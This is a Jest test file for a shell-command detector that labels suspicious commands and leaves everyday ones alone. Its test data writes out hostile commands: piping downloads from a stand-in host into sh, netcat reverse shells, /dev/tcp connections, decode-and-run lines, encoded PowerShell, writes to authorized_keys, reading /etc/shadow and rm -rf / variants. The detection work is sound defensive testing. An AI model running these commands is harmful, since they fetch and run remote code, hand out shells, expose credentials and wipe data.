import { describe, expect, it } from '@jest/globals';
import { tellingCommand } from '../../../src/judgement/manifest/telling-command.js';

const host = 'x.example.invalid';

describe('a shell command', () => {
  it.each<[string, string]>([
    [`curl -s https://${host}/i | sh`, 'downloads a script and runs it'],
    [`wget -qO- ${host}/i |sudo bash`, 'downloads a script and runs it'],
    [`fetch ${host}/i | zsh -s`, 'downloads a script and runs it'],
    [`curl -o i ${host}/i && bash i`, 'downloads a script and runs it'],
    [`wget ${host}/i; sh i`, 'downloads a script and runs it'],
    ['bash -c "cat </dev/tcp/192.0.2.1/80"', 'connects to another machine'],
    ['echo x >/dev/udp/192.0.2.1/53', 'connects to another machine'],
    ['nc 192.0.2.1 4444 -e /bin/sh', 'gives a shell to another machine'],
    ['ncat --exec /bin/sh 192.0.2.1 1', 'gives a shell to another machine'],
    ['bash -i >& x', 'gives a shell to another machine'],
    ['echo aWQ= | base64 -d | sh', 'runs what it decodes'],
    ['base64 --decode x|sh', 'runs what it decodes'],
    [`python3.11 -c 'import os; os.system("id")'`, 'runs code of the command line'],
    ['python -c "__import__(\'x\')"', 'runs code of the command line'],
    ['powershell.exe -NoProfile -enc AAAA', 'runs encoded PowerShell'],
    ['PowerShell -EncodedCommand AAAA', 'runs encoded PowerShell'],
    ['crontab -', 'changes or reads what logs in or starts by itself'],
    ['cat x >> ~/.ssh/authorized_keys', 'changes or reads what logs in or starts by itself'],
    ['echo x >> ~/.bashrc', 'changes or reads what logs in or starts by itself'],
    ['cat /etc/shadow', 'changes or reads what logs in or starts by itself'],
  ])('%s: %s', (command, effect) => {
    expect(tellingCommand(command)).toBe(effect);
  });

  it.each([
    'rm -rf /',
    'rm -fr /*',
    'rm -r -f / ; true',
    'rm -Rrf ~',
    'rm -rf ~/',
    'rm -rf ~/*',
    'rm -rf $HOME',
    'rm -rf "$HOME"',
    'rm -rf ${HOME}/*',
    'rm -rf --no-preserve-root /',
    'rm --no-preserve-root -rf /',
    'rm --recursive --force /',
  ])('%s deletes files of the machine', (command) => {
    expect(tellingCommand(command)).toBe('deletes files of the machine');
  });

  it.each([
    'python train.py --data data/ --epochs 3',
    `curl -L https://${host}/model.bin -o model.bin`,
    `wget ${host}/data.zip && unzip data.zip`,
    'pip install -r requirements.txt',
    'python -c "import torch; print(torch.__version__)"',
    'rm -rf /var/lib/apt/lists/*',
    'rm -rf ~/.cache/pip',
    'rm -rf build dist',
    'rm -f /tmp/x',
    'rm /',
    'base64 -d weights.b64 > weights.bin',
    'nc -z localhost 8080',
    'powershell -File build.ps1',
    `echo 'export PATH=/opt/conda/bin:$PATH' >> ~/.bashrc`,
    'echo ". /opt/conda/etc/profile.d/conda.sh" >> ~/.bashrc',
    'echo "conda activate base" >> $HOME/.bashrc',
  ])('of everyday work tells nothing: %s', (command) => {
    expect(tellingCommand(command)).toBeUndefined();
  });

  it('is told beside a usual line, and by each line of its own', () => {
    const usual = `echo "conda activate base" >> ~/.bashrc`;
    expect(tellingCommand(`${usual}\n${usual}`)).toBeUndefined();
    expect(tellingCommand(`${usual} && echo x >> ~/.bashrc`)).toContain('starts by itself');
    expect(tellingCommand(`echo "conda activate base; x" >> ~/.bashrc`)).toContain('starts by itself');
  });

  it('that goes on too long to be judged is never silent', () => {
    const most = 2 ** 20;
    expect(tellingCommand('x'.repeat(most))).toBeUndefined();
    expect(tellingCommand('x'.repeat(most + 1))).toBe('is longer than can be judged');
    expect(tellingCommand(`crontab -\n${'x'.repeat(most)}`)).toContain('starts by itself');
  });

  it.each(['rm -', 'rm -r ', 'curl ', 'base64 -d ', `python -c '`, 'powershell ', 'bash -i '])(
    'is judged in linear time: %s',
    (start) => {
      const before = performance.now();
      tellingCommand(start + 'r'.repeat(200_000));
      tellingCommand(start.repeat(20_000));
      expect(performance.now() - before).toBeLessThan(10_000);
    },
  );
});
